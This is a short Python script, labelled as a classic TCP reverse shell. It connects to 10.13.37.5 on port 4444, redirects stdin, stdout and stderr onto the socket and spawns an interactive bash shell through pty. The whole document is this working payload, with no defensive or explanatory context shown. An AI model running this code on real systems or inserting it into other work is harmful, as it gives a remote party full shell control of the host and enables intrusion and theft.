# technique: classic IPv4 TCP reverse shell using socket, dup2 onto stdio and pty.spawn of bash
import socket, os, pty

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.13.37.5", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
pty.spawn("/bin/bash")
